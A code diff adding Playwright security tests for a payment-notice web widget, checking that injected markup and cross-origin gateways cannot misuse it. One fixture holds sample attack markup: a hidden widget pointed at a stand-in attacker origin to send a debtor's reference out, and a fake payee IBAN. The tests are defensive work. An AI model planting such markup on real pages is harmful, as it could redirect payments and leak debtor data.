@@ -5,7 +5,7 @@ import { DEMO_CONFIG, demoConfigJsonChild } from "../../demo/demo-config.mjs";
 import { buildPaymentOrder, encodePayBySquare } from "../../src/domain/pay-by-square";
 import { scanQrPath } from "../helpers/scan-qr-path";
 import { DebtNoticeModel } from "./support/debt-notice.model";
-import { baseUrl, resetGateway, useBrowser } from "./support/harness";
+import { baseUrl, gatewayRequests, resetGateway, useBrowser } from "./support/harness";
 
 // What a partner page with an HTML-injection hole, or a changed gateway answer, must not be able
 // to do to a debtor (issue 32). The attacker's origin answers every request with code that
@@ -294,5 +294,74 @@ describe("security: what injected markup and changed answers cannot do", () => {
         .catch(() => 0),
     ).toBe(0);
     await context.close();
+  });
+
+  // The fresh review's first finding: markup injected beside the real widget added a second
+  // <debt-notice> that sent the reference from the page's address to its own gateway, or showed
+  // the debtor's name and amount with an IBAN of its own.
+  it("markup injected beside a path-routed widget: no request to another gateway, no IBAN of the attacker's", async () => {
+    await resetGateway();
+    const context = await browser().newContext({ viewport: { width: 1280, height: 900 } });
+    const toAttacker: string[] = [];
+    await context.route(`${EVIL}/**`, (route, request) => {
+      toAttacker.push(new URL(request.url()).pathname);
+      return route.fulfill({ status: 204, headers: { "access-control-allow-origin": "*" } });
+    });
+    const fakePayee = `<script type="application/json">{"payee":{"iban":"SK6807200002891987426353","beneficiaryName":"Platby s.r.o."}}</script>`;
+    await context.route("**/dlh/a1b2c3-man-high", (route) =>
+      route.fulfill({
+        contentType: "text/html",
+        body: `<!doctype html><html lang="sk"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>notice</title>
+          <script src="/dist/debt-notice.umd.js" defer></script></head><body>
+          <debt-notice routing="path" base-path="/dlh/" api-base="${EVIL}/api" style="display:none"></debt-notice>
+          <debt-notice routing="path" base-path="/dlh/">${fakePayee}</debt-notice>
+          <debt-notice routing="path" base-path="/dlh/">${demoConfigJsonChild()}</debt-notice>
+          </body></html>`,
+      }),
+    );
+    const page = await context.newPage();
+    await page.goto(`${baseUrl()}/dlh/a1b2c3-man-high`);
+    await page.evaluate(() => customElements.whenDefined("debt-notice"));
+    // Mounting is a microtask after definition, a request is on its way within a task: a frame covers both.
+    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 200))));
+    expect(toAttacker).toEqual([]);
+    expect(
+      await page.locator("debt-notice").evaluateAll((all) => all.map((el) => el.shadowRoot?.textContent ?? "")),
+    ).toEqual(["", "", ""]);
+    expect((await gatewayRequests()).filter((request) => JSON.stringify(request.body).includes("a1b2c3"))).toEqual([]);
+    await context.close();
+  });
+
+  it("a gateway on another origin works only when the script tag names it (data-api-origins)", async () => {
+    const gatewayOrigin = baseUrl().replace("localhost", "127.0.0.1");
+    for (const listed of [false, true]) {
+      await resetGateway();
+      const context = await browser().newContext({ viewport: { width: 1280, height: 900 } });
+      const warnings: string[] = [];
+      context.on("console", (message) => {
+        if (message.type() === "warning") warnings.push(message.text());
+      });
+      await context.route("**/cross-origin-partner", (route) =>
+        route.fulfill({
+          contentType: "text/html",
+          body: `<!doctype html><html lang="sk"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>partner</title>
+            <script src="/dist/debt-notice.umd.js" ${listed ? `data-api-origins="${gatewayOrigin}"` : ""} defer></script></head><body>
+            <debt-notice reference="a1b2c3-man-high" api-base="${gatewayOrigin}/api/2/union-debt">${demoConfigJsonChild()}</debt-notice>
+            </body></html>`,
+        }),
+      );
+      const page = await context.newPage();
+      const origins: string[] = [];
+      page.on("request", (request) => {
+        if (request.url().includes("/api/2/union-debt/")) origins.push(new URL(request.url()).origin);
+      });
+      await page.goto(`${baseUrl().replace("127.0.0.1", "localhost")}/cross-origin-partner`);
+      const widget = new DebtNoticeModel(page);
+      await widget.ready();
+      const expected = listed ? gatewayOrigin : new URL(page.url()).origin;
+      expect(new Set(origins)).toEqual(new Set([expected]));
+      expect(warnings.filter((text) => text.includes("data-api-origins"))).toHaveLength(listed ? 0 : 1);
+      await context.close();
+    }
   });
 });
